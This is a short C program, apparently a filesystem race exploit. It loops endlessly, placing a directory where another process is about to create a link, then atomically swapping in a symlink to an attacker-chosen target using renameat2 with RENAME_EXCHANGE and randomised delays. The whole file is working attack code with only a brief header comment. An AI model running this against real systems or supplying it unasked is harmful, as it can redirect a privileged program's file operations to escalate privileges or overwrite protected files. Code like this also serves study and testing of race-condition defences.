/* Puts a folder where a link is about to be made, then swaps it for a link that leads elsewhere, over and over. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static long swap(const char *from, const char *to, unsigned flags) {
  return syscall(SYS_renameat2, AT_FDCWD, from, AT_FDCWD, to, flags);
}

int main(int argc, char **argv) {
  if (argc != 3) return 64;
  const char *place = argv[1], *elsewhere = argv[2];
  char folder[4096], link[4096], target[4096], inside[8192];
  snprintf(folder, sizeof folder, "%s.folder", place);
  snprintf(link, sizeof link, "%s.link", place);
  snprintf(inside, sizeof inside, "%s/%s", place, strrchr(place, '/') + 1);
  for (;;) {
    if (access(link, F_OK) != 0 && symlink(elsewhere, link) != 0) unlink(link);
    mkdir(folder, 0777);
    ssize_t length = readlink(place, target, sizeof target - 1);
    if (length > 0) {
      target[length] = 0;
      /* The one that was made. */
      if (strcmp(target, elsewhere) != 0) unlink(place);
      continue;
    }
    if (swap(folder, place, RENAME_NOREPLACE) == 0) {
      usleep(random() % 80);
      swap(place, link, RENAME_EXCHANGE);
      usleep(100);
      unlink(place);
      rmdir(link);
    } else {
      unlink(inside);
      rmdir(place);
    }
  }
}
